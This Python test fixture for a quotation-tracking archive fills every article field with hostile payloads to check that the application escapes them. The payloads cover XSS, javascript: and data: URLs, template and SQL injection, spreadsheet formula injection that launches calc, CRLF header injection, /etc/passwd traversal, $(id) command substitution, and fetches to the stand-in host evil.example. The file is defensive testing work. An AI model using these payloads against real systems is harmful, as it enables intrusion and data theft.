"""An archive in which everything that an article says wants to harm whoever reads the archive.

Every payload tells of itself if it runs: it sets ``window.pwned``, opens a dialog, or asks for
something from ``evil.example``.
"""

import json
from collections.abc import Iterator
from pathlib import Path

from browser.visiting import COMMAND
from outside import run
from quotetrack.model import (
    Attribution,
    Document,
    Kind,
    Quotation,
    Reading,
    Span,
    Speaker,
    SpeakerKind,
)
from quotetrack.store import Store

EVIL = "evil.example"
RUN = "window.pwned=1;fetch('//evil.example/')"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload={RUN}>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>',
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f'" autofocus onfocus="{RUN}" x="',
    f"<a href='javascript:{RUN}'>Read on</a><base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<form action=//evil.example><button autofocus>Search</button></form><!--",
    "{{ 7*7*1337 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}${7*7*1337}",
    "'; DROP TABLE quotations; -- \" OR 1=1 /* ) UNION SELECT made_by FROM judgements --",
    "]]></summary></entry><entry><title>pwned</title></entry><![CDATA[ & &amp; &lt;b&gt; <!DOCTYPE",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u2067\u202bturned",
    "line\r\nSet-Cookie: pwned=1\r\n\r\n<b>body</b>",
    "bell\x07 escape\x1b[31m vertical\x0b form\x0c delete\x7f next\x85 line\u2028\u2029 none\ufffe",
    '=cmd|"/C calc"!A0',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1)",
    '\t=HYPERLINK("http://evil.example","x")',
    "-2+3+cmd|' /C calc'!A0",
    '＝IMPORTXML("http://evil.example")',
    '\\u003cscript\\u003e \\"; window.pwned=1; //',
    "../../../../etc/passwd %2e%2e%2f ..%2f ~2F \\..\\",
    "%s %(x)s {0} {x} $x `id` $(id)",
    "\U0001f469\u200d\U0001f680 Z̷̢a̵l̸g̶o̴ " + "A" * 400,
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "//evil.example/",
    f'https://news.example/"><script>{RUN}</script>',
    f"https://news.example/' onmouseover='{RUN}",
    "https://user:word@evil.example\\@news.example/",
    "file:///etc/passwd",
    "https://news.example/\r\nSet-Cookie: pwned=1",
)

FIELDS = ("title", "url", "outlet", "author")


def make_archive(folder: Path) -> Path:
    """Make the archive in ``folder``, partly with the real command, and return the database."""
    database = folder / "quotes.db"
    known, articles = write_known(folder / "known.toml"), write_articles(folder / "articles.jsonl")
    run(*COMMAND, "ingest", articles, "--known", known, "--db", database, cwd=folder)
    store_hostile(database)
    return database


def write_articles(path: Path) -> Path:
    """Write articles as JSON Lines that a real run reads: payloads within sentences with a cue."""
    lines = (json.dumps(article, ensure_ascii=False) + "\n" for article in _make_articles())
    path.write_text("".join(lines), "utf-8")
    return path


def _make_articles() -> Iterator[dict[str, str]]:
    for n, payload in enumerate(PAYLOADS):
        yield {
            "id": f"read {n} {payload}",
            "title": payload,
            "url": ADDRESSES[n % len(ADDRESSES)],
            "outlet": payload,
            "author": payload,
            "published": "2026-01-02",
            "text": f"“The bridge {payload} is shut,” said Nadia Lambert of {payload} here.\n\n"
            f"{payload} said that the ferry was late. The so-called “{payload}” is a plan.",
        }


def write_known(path: Path) -> Path:
    """Write known speakers with payloads for names, for ``quotetrack ingest --known``."""
    names = [payload for payload in PAYLOADS if payload.isprintable()]
    blocks = (
        f"[[speaker]]\nname = {json.dumps('X ' + name, ensure_ascii=False)}\nkind = 'body'\n"
        f"aliases = [{json.dumps('Y ' + name, ensure_ascii=False)}]\n"
        for name in names
    )
    path.write_text("\n".join(blocks), "utf-8")
    return path


def store_hostile(path: Path) -> None:
    """Store articles in which every field of every row is a payload, in the archive ``path``."""
    with Store.open(path, create=True) as store, store.ingest("0.1", PAYLOADS[0]) as ingest:
        for n, payload in enumerate(PAYLOADS):
            reading = read_payload(n, payload)
            ingest.fate(reading.document)
            ingest.write([reading])


def read_payload(n: int, payload: str) -> Reading:
    """Make an article of one payload, with quotations of somebody named, described and nobody."""
    opening, words = "Before. ", f"“{payload}”"
    text = "".join(f"{opening}{words} said {payload}. After {payload}.\n\n" for _ in range(3))
    whole = len(text) // 3
    starts = [m * whole + len(opening) for m in range(3)]
    speaker = Speaker(f"hostile-{n}", payload, SpeakerKind.PERSON, f"Q{n + 1}", (payload + "2",))
    other = Speaker(f"other-{n}", f"{payload} {n}", SpeakerKind.BODY)
    found = (
        _attribute(text, payload, starts[0], speaker, None, (other,)),
        _attribute(text, payload, starts[1], None, payload, ()),
        _attribute(text, payload, starts[2], None, None, ()),
    )
    document = Document(
        f"{payload} {n}",
        text,
        title=payload,
        url=ADDRESSES[n % len(ADDRESSES)],
        outlet=payload,
        published="2026-03-04",
        author=payload,
        language="en" if n % 2 else 'en"><script>window.pwned=1</script>',
        origin=payload,
    )
    return Reading(document, found)


def _attribute(  # noqa: PLR0913, PLR0917 - a row of a table
    text: str,
    payload: str,
    start: int,
    speaker: Speaker | None,
    described: str | None,
    others: tuple[Speaker, ...],
) -> Attribution:
    end = start + len(payload) + 2
    cue = text.index("said", end)
    source = Span(cue + 5, cue + 5 + len(payload))
    quotation = Quotation(
        (Span(start, end),),
        (Span(cue, cue + 4),),
        (source,),
        Kind.DIRECT,
        payload,
        0.75,
        reasons=(payload, f"of {payload}"),
    )
    return Attribution(quotation, speaker, described, payload, payload, 0.75, others=others)
